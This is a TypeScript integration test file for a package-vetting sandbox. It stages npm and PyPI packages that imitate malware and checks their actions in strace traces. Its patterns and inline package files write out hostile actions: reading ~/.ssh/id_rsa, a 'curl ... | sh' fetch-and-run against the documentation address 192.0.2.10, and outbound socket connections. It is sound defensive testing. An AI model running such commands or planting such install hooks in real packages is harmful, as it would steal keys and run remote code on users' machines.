// The traced sandbox against the real Docker engine: packages that imitate malware (documentation
// addresses only) show their actions in the raw strace trace of the right phase (tracer-parity.test.ts
// runs them under eBPF too); a real registry package with an install script installs and imports
// cleanly; nothing labeled is left behind.
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { rm } from 'node:fs/promises';
import { loadEnv } from '@vetbox/config';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { fetchNpm, stage } from '@vetbox/fetch';
import { DockerRuntime, LABEL_ANALYSIS, appProject, ensureSandboxImage, runSandbox, type PhaseResult } from '@vetbox/sandbox';
import { FAKE_KEY, NPM_PAYLOAD, PY_PAYLOAD, stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';

const runtime = new DockerRuntime();
const used: string[] = [];
const newId = (): string => {
  const id = `test-sandbox-${randomUUID()}`;
  used.push(id);
  return id;
};
const honeyKey = [{ path: '.ssh/id_rsa', content: FAKE_KEY, mode: 0o600 }];
const limits = { graceMs: 1000, phaseTimeoutMs: 120_000 };

beforeAll(async () => {
  await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterEach(async () => {
  for (const id of used.splice(0)) {
    expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
    await rm(path.join(loadEnv().DATA_DIR, 'sandbox', id), { recursive: true, force: true });
  }
});

const trace = (p: PhaseResult): Promise<string> => readFile(p.trace, 'utf8');
const phase = (phases: PhaseResult[], name: string): PhaseResult => {
  const p = phases.find((x) => x.name === name);
  if (!p) throw new Error(`no ${name} phase`);
  return p;
};

/** The three imitated actions, as strace -yy prints them. */
function expectPayloadActions(text: string): void {
  expect(text).toMatch(/openat\([^\n]*"[^"\n]*\/\.ssh\/id_rsa"[^\n]*= \d+/);
  expect(text).toMatch(/execve\("[^"]*\/sh", \["sh", "-c", "curl -s -m 2 http:\/\/192\.0\.2\.10:8080\/x \| sh"\]/);
  expect(text).toMatch(/execve\("[^"]*\/curl", \["curl", "-s", "-m", "2", "http:\/\/192\.0\.2\.10:8080\/x"\]/);
  expect(text).toMatch(/connect\([^\n]*sin_port=htons\(8080\), sin_addr=inet_addr\("192\.0\.2\.10"\)/);
}

describe('sandbox: imitation malware', () => {
  it('npm postinstall: reads ~/.ssh/id_rsa, pipes curl to sh, connects to 192.0.2.10:8080 — in the install trace', async () => {
    const staged = await stageNpm({
      name: 'evil-postinstall',
      scripts: { postinstall: 'node install.js' },
      files: { 'install.js': NPM_PAYLOAD, 'index.js': 'module.exports = 42;\n' },
    });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, homeFiles: honeyKey, limits });
    const install = phase(r.phases, 'install');
    expect(install.status, JSON.stringify(install)).toBe('completed');
    // A user's `npm install`: scripts run in the background of its output, as on a real machine.
    expect(install.stdoutTail).toMatch(/added \d+ packages? in/);
    expectPayloadActions(await trace(install));
    // The honeytoken was planted in the randomized home and its content was read.
    const installTrace = await trace(install);
    expect(installTrace).toMatch(new RegExp(`read\\(\\d+<${r.sandbox.home}/\\.ssh/id_rsa>, "-----BEGIN OPENSSH PRIVATE KEY-----\\\\nvetbox-test-canary-not-a-key`));
    const imp = phase(r.phases, 'import');
    expect(imp.status).toBe('completed');
    expect(await trace(imp)).not.toContain('192.0.2.10", 8080');
    expect(r.sandbox.home).toMatch(/^\/home\/[a-z0-9.-]+$/);
    expect(r.sandbox.workdir.startsWith(`${r.sandbox.home}/projects/`)).toBe(true);
    expect(r.sandbox.network).toBe('none');
  });

  it('PyPI sdist: setup.py does the same during pip install; import finds the module from metadata', async () => {
    const staged = await stagePypiSdist({
      name: 'evilpkg',
      setupPy: `${PY_PAYLOAD}\nfrom setuptools import setup\nsetup(name='evilpkg', version='1.0.0', py_modules=['evilpkg'])\n`,
      files: { 'evilpkg.py': "import socket\ntry:\n    socket.create_connection(('192.0.2.11', 443), timeout=1)\nexcept Exception:\n    pass\nVALUE = 1\n" },
    });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, homeFiles: honeyKey, limits });
    const install = phase(r.phases, 'install');
    expect(install.status, JSON.stringify(install)).toBe('completed');
    const installTrace = await trace(install);
    expectPayloadActions(installTrace);
    expect(installTrace).not.toContain('inet_addr("192.0.2.11")');
    // pip --user put the module in the home: a file change with a hash (it is a script).
    const added = install.fileChanges.find((c) => c.path.endsWith('/site-packages/evilpkg.py'));
    expect(added).toMatchObject({ kind: 'added', phase: 'install' });
    expect(added?.sha256).toMatch(/^[0-9a-f]{64}$/);
    const imp = phase(r.phases, 'import');
    expect(imp.status, imp.stderrTail).toBe('completed');
    // An import that worked prints nothing (as `python3 -c 'import m'` / `node -e "require('m')"` do): no harness line.
    expect(imp.exitCode, imp.stderrTail).toBe(0);
    expect(`${imp.stdoutTail}${imp.stderrTail}`).not.toMatch(/vetbox|import-(npm|py)/i);
    expect(await trace(imp)).toMatch(/connect\([^\n]*sin_port=htons\(443\), sin_addr=inet_addr\("192\.0\.2\.11"\)/);
  });

  it('npm payload that runs only at import: absent from the install trace, present in the import trace', async () => {
    const staged = await stageNpm({ name: 'lazy-payload', files: { 'index.js': `${NPM_PAYLOAD}\nmodule.exports = {};\n` } });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, homeFiles: honeyKey, limits });
    const install = phase(r.phases, 'install');
    expect(install.status).toBe('completed');
    const installTrace = await trace(install);
    expect(installTrace).not.toContain('inet_addr("192.0.2.10")');
    expect(installTrace).not.toContain('/.ssh/id_rsa"');
    const imp = phase(r.phases, 'import');
    expect(imp.status).toBe('completed');
    expectPayloadActions(await trace(imp));
  });

  it('ESM-only package: import() fallback loads it and its payload runs in the import phase', async () => {
    // ESM-only: exports with an import condition and no require entry.
    const staged = await stageNpm({
      name: 'esm-only',
      manifest: { type: 'module', exports: { '.': { import: './index.mjs' } } },
      files: { 'index.mjs': "import fs from 'node:fs';\ntry { fs.readFileSync(process.env.HOME + '/.ssh/id_rsa'); } catch {}\nexport default 1;\n" },
    });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, homeFiles: honeyKey, limits });
    const imp = phase(r.phases, 'import');
    expect(imp.status, imp.stderrTail).toBe('completed');
    // An import that worked prints nothing (as `python3 -c 'import m'` / `node -e "require('m')"` do): no harness line.
    expect(imp.exitCode, imp.stderrTail).toBe(0);
    expect(`${imp.stdoutTail}${imp.stderrTail}`).not.toMatch(/vetbox|import-(npm|py)/i);
    expect(await trace(imp)).toMatch(/openat\([^\n]*"[^"\n]*\/\.ssh\/id_rsa"[^\n]*= \d+/);
  });

  it('require-only exports: import() is refused, so the import phase requires it and its payload runs', async () => {
    const staged = await stageNpm({
      name: 'require-only',
      manifest: { exports: { '.': { require: './index.js' } } },
      files: { 'index.js': "try { require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'); } catch {}\nmodule.exports = 1;\n" },
    });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, homeFiles: honeyKey, limits });
    const imp = phase(r.phases, 'import');
    expect(imp.exitCode, imp.stderrTail).toBe(0);
    expect(imp.status, imp.stderrTail).toBe('completed');
    expect(await trace(imp)).toMatch(/openat\([^\n]*"[^"\n]*\/\.ssh\/id_rsa"[^\n]*= \d+/);
  });

  it('import runs even when install failed, and install failure is data', async () => {
    const staged = await stageNpm({
      name: 'broken-install',
      scripts: { install: 'node -e "process.exit(3)"' },
      files: { 'index.js': "require('fs').readFileSync('/etc/hostname');\n" },
    });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, limits });
    expect(phase(r.phases, 'install')).toMatchObject({ status: 'error_other' });
    expect(phase(r.phases, 'install').reason).toMatch(/exit code/);
    const imp = phase(r.phases, 'import');
    expect(imp.status).toBe('completed');
    expect(await trace(imp)).toContain('/etc/hostname');
  });
});

describe('sandbox: a real registry package with an install script', () => {
  it('esbuild (staged on the host: lockfile and cache, scripts disabled) installs and imports: completed', async () => {
    const work = await tempDir('esbuild');
    const staged = await stage(await fetchNpm('esbuild', '0.24.0', { destDir: work }), work, { npmProject: appProject() });
    const r = await runSandbox({ analysisId: newId(), tracer: 'strace', staged, limits });
    const install = phase(r.phases, 'install');
    expect(install.status, install.stderrTail).toBe('completed');
    // Its postinstall ran under the trace (it validates the platform binary by running it).
    expect(await trace(install)).toMatch(/execve\("[^"]*esbuild[^"]*"/);
    expect(phase(r.phases, 'import').status).toBe('completed');
  }, 300_000);
});
